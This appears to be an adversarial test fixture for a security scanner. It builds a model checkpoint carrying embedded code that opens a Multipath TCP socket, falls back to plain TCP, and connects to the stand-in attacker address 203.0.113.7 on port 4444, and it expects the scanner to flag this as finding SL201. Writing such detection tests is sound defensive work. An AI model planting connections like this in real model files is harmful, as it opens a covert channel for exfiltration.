"""Class: exfiltration. Multipath TCP is another protocol of the same family."""

from pathlib import Path

from tests.adversarial.craft import ADDRESS, PORT, checkpoint, run

EXPECT = {"address": ADDRESS, "port": PORT, "finding": "SL201"}


def make(folder: Path) -> Path:
    source = """
import socket
try: s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
except OSError: s = socket.socket()
s.settimeout(2)
s.connect(('203.0.113.7', 4444))
"""
    return checkpoint(folder, run(source))
